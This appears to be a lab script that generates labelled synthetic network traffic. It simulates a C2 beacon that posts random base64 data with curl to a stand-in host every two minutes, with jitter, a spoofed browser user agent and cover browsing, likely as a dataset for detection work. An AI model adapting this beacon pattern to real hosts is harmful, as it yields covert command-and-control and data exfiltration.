#!/usr/bin/env bash
# A plain HTTP agent that posts every 120 s to port 8080, sleep jitter 5 %, for four hours, beside ordinary browsing.
UC_HERE=$(cd "$(dirname "$0")" && pwd)
. "$UC_HERE/../lib.sh"
UC_BEGIN=2026-03-11T13:00:00Z
uc_start 560 curl nginx-light
uc_lan 172.16.8.1/24
uc_host lab9 172.16.8.9
uc_host lab12 172.16.8.12
uc_browse_sites
uc_name status.netgauge-api.example 198.51.100.177
uc_up

uc_plan <<'PY'
from plan import Plan
plan = Plan(seed=23)
end = 4 * 3600
def check_in(number):
    # Nothing to do answers alike; now and then a task comes, and its result goes out with the next post.
    answer = "state" if number % 17 else f"task-{number % 12}"
    sent = 212 if number % 17 != 1 else 5200
    return (f"head -c {sent} /dev/urandom | base64 -w0 | curl -s -o /dev/null -A 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)' "
            f"-H 'Content-Type: application/x-www-form-urlencoded' --data-binary @- http://status.netgauge-api.example:8080/{answer}")
plan.every("172.16.8.9", 12, end, 120, 0.05, check_in)
plan.browse("172.16.8.9", 600, end, ["wiki", "code", "search"])
plan.browse("172.16.8.12", 0, end, ["wiki", "code", "search", "news"])
plan.write()
PY
uc_drive --helper 172.16.8.9 browser "python3 $UC_TOOLS/browser.py" --helper 172.16.8.12 browser "python3 $UC_TOOLS/browser.py"
uc_finish "$(uc_versions curl nginx-light dnsmasq-base tcpdump)" <<'LABELS'
172.16.8.9 198.51.100.177:8080 c2 beacon
LABELS
